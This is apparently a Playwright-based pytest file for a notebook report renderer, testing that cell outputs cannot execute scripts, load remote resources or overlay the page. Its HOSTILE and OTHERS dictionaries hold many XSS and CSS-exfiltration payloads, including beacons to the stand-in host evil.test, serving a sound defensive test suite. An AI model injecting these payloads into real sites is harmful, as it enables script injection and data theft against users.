"""What cells give out cannot act in a report: nothing runs, nothing is fetched, nothing is covered."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from nbflow.present.report.cells import draw_cell
from nbflow.present.report.content_policy import make_policy
from nbflow.reports.facts import ReportCell

pytestmark = pytest.mark.browser

RUN = "window.top.ran = (window.top.ran || 0) + 1; new Image().src = 'http://evil.test/ran'"
HOSTILE = {
    "script": f"<script>{RUN}</script>words",
    "script with style": f"<style>p{{color:red}}</style><p>words</p><script>{RUN}</script>",
    "handlers": f'<img src=x onerror="{RUN}"><div style="color:red" onmouseover="{RUN}">words</div>'
    f'<details open ontoggle="{RUN}"><summary>more</summary></details>',
    "links": "<a href='javascript:top.ran=1' style='color:red'>words</a> <a href='java&#10;script:top.ran=1'>x</a>"
    "<a href='data:text/html,<script>top.ran=1</script>'>y</a>",
    "svg": f"<svg width=10 height=10 onload='{RUN}'><script>{RUN}</script><a href='javascript:top.ran=1'>"
    f"<rect width=9 height=9 /></a><foreignObject><iframe src='javascript:top.ran=1'></iframe>"
    "</foreignObject><image href='http://evil.test/svg' /><use href='http://evil.test/use#x' />"
    "<rect width=5 height=5 fill='url(http://evil.test/fill#x)' />"
    f"<animate attributeName=href values='javascript:top.ran=1' onbegin='{RUN}' /></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></mtext>"
    "<maction actiontype='statusline#http://evil.test' xlink:href='javascript:top.ran=1'>x</maction></math>",
    "refresh": "<meta http-equiv='refresh' content='0;url=http://evil.test/refresh'><b style='color:red'>words</b>",
    "base": "<base href='http://evil.test/'><a href='x'>words</a><img src='pixel.png'>",
    "forms": "<form action='http://evil.test/form'><input name=q style='color:red'><button>Send</button></form>",
    "frames": "<iframe src='http://evil.test/frame'></iframe><object data='http://evil.test/object'></object>"
    "<embed src='http://evil.test/embed'><p style='color:red'>words</p>",
    "fetching styles": "<style>@import url(http://evil.test/import); body {background: url(http://evil.test/bg)}"
    "@font-face {font-family: x; src: url(http://evil.test/font)} p {font-family: x}"
    "p:after {content: '\\201C'; background: image-set('http://evil.test/set' 1x)} i {background: u\\72 l(/x.png)}"
    "input[value^=a] {background: url(http://evil.test/value)}</style><p>words</p><input value=abc>"
    "<link rel=stylesheet href='http://evil.test/css'><link rel=preconnect href='http://evil.test'>"
    "<video poster='http://evil.test/poster' src='http://evil.test/film' autoplay></video>",
    "covering": "<div style='position:fixed;inset:0;z-index:9999;background:red'>You won</div>"
    "<style>h1, body {display: none !important}</style>",
    "breaking out": "</div></main></iframe>\"'><script>top.ran=1</script><p>words</p>",
    "breaking out of a frame": "<p style='x'>\"'></p></iframe><script>top.ran=1</script>&quot;&gt;&lt;script&gt;top.ran=1",
    "template": "<template shadowrootmode=open><script>top.ran=1</script></template><p style='x'>words</p>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=top.ran=1>'></noscript>words",
    "a table": "<table class='dataframe'><tr><th onclick='top.ran=1'><img src=x onerror=top.ran=1></th></tr>"
    "<tr><td>&lt;img src=x onerror=top.ran=1&gt;</td></tr></table>",
}  # fmt: skip
TEXT = f"</script><script>{RUN}</script><img src=x onerror='{RUN}'>\x1b[31m<b onclick=x>\x1b]8;;javascript:top.ran=1\x07"
OTHERS: dict[str, Any] = {
    "text/plain": TEXT,
    "text/markdown": f"{TEXT} [x](javascript:top.ran=1) ![x](http://evil.test/md) <http://a.b/'onclick='x>",
    "text/latex": rf"$\text{{{TEXT}}} \href{{javascript:top.ran=1}}{{x}} \style{{x}}{{y}}$",
    "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>",
    "image/png": '"><script>top.ran=1</script>',
    "application/json": {TEXT: [TEXT]},
    "application/javascript": RUN,
    "application/x-unknown": TEXT,
}


@pytest.fixture
def report(chromium: Any, tmp_path: Path) -> Iterator[Any]:
    """A function that opens a page with cells, and gives the page and what it asks for."""
    context = chromium.new_context(viewport={"width": 800, "height": 600})
    context.set_offline(True)
    page = context.new_page()
    page.set_default_timeout(5000)
    asked: list[str] = []
    page.on(
        "request", lambda one: asked.append(one.url) if not one.url.startswith("data:") else None
    )

    def show(cells: list[ReportCell], policy: str = "") -> tuple[Any, list[str]]:
        asked.clear()
        path = tmp_path / "report.html"
        path.write_text(make_page(cells, policy), encoding="utf-8")
        page.goto(path.as_uri())
        for frame in page.locator("iframe").all():  # they load when they are seen
            frame.scroll_into_view_if_needed()
            frame.content_frame.locator("body").wait_for(state="attached")
        return page, [url for url in asked if url not in {path.as_uri(), "about:srcdoc"}]

    yield show
    context.close()


def make_page(cells: list[ReportCell], policy: str) -> str:
    meta = f'<meta http-equiv="Content-Security-Policy" content="{policy}">' if policy else ""
    drawn = "".join(draw_cell(cell, step="load", id=f"cell-{cell.number}") for cell in cells)
    return f"<!doctype html><meta charset=utf-8>{meta}<title>x</title><main><h1>Title</h1>{drawn}</main>"


def make_cells() -> list[ReportCell]:
    """Return a cell for each hostile output, and some whose own texts are hostile."""
    datas = [{"text/html": html} for html in HOSTILE.values()]
    datas += [{kind: value} for kind, value in OTHERS.items()]
    outputs = [
        ({"output_type": "display_data", "data": data, "metadata": {"alt": TEXT}},)
        for data in datas
    ]
    error = {"output_type": "error", "ename": TEXT, "evalue": TEXT, "traceback": [TEXT]}
    printed = {"output_type": "stream", "name": TEXT, "text": TEXT}
    cells = [ReportCell(at, "code", TEXT, outputs=one) for at, one in enumerate(outputs, 1)]
    count = len(cells)
    return [
        *cells,
        ReportCell(count + 1, "code", TEXT, outputs=(error, printed), failed=True, line=1),
        *(ReportCell(count + 2 + at, "markdown", html) for at, html in enumerate(HOSTILE.values())),
        ReportCell(
            999, "markdown", f"![x](attachment:a) {TEXT}", attachments={"a": {"image/png": TEXT}}
        ),
    ]


@pytest.mark.parametrize("policy", [make_policy(), ""], ids=["with a policy", "without a policy"])
def test_no_script_runs_and_nothing_is_fetched(report, policy: str) -> None:
    """The cleaning alone suffices, where the policy is not there."""
    page, asked = report(make_cells(), policy)
    assert page.evaluate("window.ran") is None
    assert asked == []


def test_no_output_covers_the_page_or_styles_it(report) -> None:
    page, _ = report(make_cells(), make_policy())
    page.evaluate("scrollTo(0, 0)")
    assert page.locator("h1").is_visible()
    top = "(() => { const at = document.querySelector('h1').getBoundingClientRect();"
    top += " return document.elementFromPoint(at.left + 5, at.top + 5).tagName; })()"
    assert page.evaluate(top) == "H1"


def test_no_output_has_elements_or_attributes_that_act(report) -> None:
    page, _ = report(make_cells(), make_policy())
    acting = json.dumps(
        "script,object,embed,form,base,link,meta[http-equiv=refresh],noscript,template"
    )
    for frame in page.frames:
        assert frame.evaluate(f"document.body.querySelectorAll({acting}).length") == 0
        handlers = "[...document.querySelectorAll('*')].filter(e => [...e.attributes].some("
        handlers += (
            "a => /^on/i.test(a.name) || /^\\s*(javascript|data:text)/i.test(a.value))).length"
        )
        assert frame.evaluate(handlers) == 0


def test_frames_are_those_of_the_report_and_may_run_nothing(report) -> None:
    page, _ = report(make_cells(), make_policy())
    for frame in page.locator("iframe").all():
        assert frame.get_attribute("sandbox") == "allow-same-origin"
        assert frame.get_attribute("title")
        assert frame.get_attribute("src") is None
